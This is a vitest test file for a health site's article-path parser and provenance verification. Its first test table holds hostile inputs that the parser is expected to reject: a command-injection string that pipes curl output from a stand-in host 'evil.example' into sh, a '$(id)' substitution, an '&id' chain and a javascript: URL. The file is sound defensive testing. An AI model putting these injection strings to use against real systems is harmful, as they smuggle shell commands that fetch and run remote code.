import { expect, it } from 'vitest'
import { provenancePath } from '#routing/routes.ts'
import { check, outcomeOf } from '#verify/check.ts'
import { parsedProvenance } from '#verify/provenance.ts'
import { articlePath, recordPath } from './verify.rules.ts'

it.each([
  ['https://www.example.org/health/metformin', '/health/metformin'],
  [' http://www.example.org/es/salud/asma?x=1#dose ', '/es/salud/asma'],
  ['www.example.org/health/metformin', '/health/metformin'],
  ['/health/metformin', '/health/metformin'],
  ['https://other.example/health/metformin', null],
  ['//other.example/health/metformin', null],
  ['health/metformin', null],
  ['https://www.example.org/', null],
  ['javascript:alert(1)', null],
  ["/x;curl$IFS'evil.example/a'|sh", null],
  ['/health/$(id)', null],
  ['/health/m&id', null],
  ['/es/salud/ni%C3%B1os_2.1~', '/es/salud/ni%C3%B1os_2.1~'],
  ['https://', null],
  ['', null],
])('[REV-6] "%s" names the article %s', (given, path) => {
  expect(articlePath(given, 'https://www.example.org')).toBe(path)
})

it('[REV-6] a file is verified if this site has the same record, and proves nothing by itself', async () => {
  const made = (changes: object) => {
    const text = ['salus-text-1', ['language', 'en'], ['head', [], ['title', [], 'Dose']], ['end', []]]
    const hash = '36a9c821fbf0590fc50050665a31023042ef7595c1cb91f8dd8e3baa03c03008'
    const versions = [{ number: 1, textVersion: 'salus-text-1', hash, recordedAt: '2026-01-01T00:00:00Z' }]
    return parsedProvenance(JSON.stringify({ format: 'salus-provenance-1', text, versions, ...changes }), 'a file')
  }
  const address = 'https://www.example.org/provenance/health/x.json'
  const found = async (delivered: Parameters<typeof check>[0]) => {
    const { findings } = await check(delivered)
    return [outcomeOf(findings), findings.at(-1)?.id]
  }
  expect(await found({ provenance: made({}) })).toEqual(['unknown', 'text.alone'])
  expect(await found({ provenance: made({}), onSite: made({}), address })).toEqual(['holds', 'text.onSite'])
  for (const changes of [{ versions: [] }, { people: { authors: [{ name: 'X' }] } }])
    expect(await found({ provenance: made({}), onSite: made(changes), address })).toEqual([
      'unknown',
      'text.otherOnSite',
    ])
})

it('[REV-6] the record of an article has the path that the site uses', () => {
  expect(recordPath('/health/x')).toBe(provenancePath('/health/x'))
})
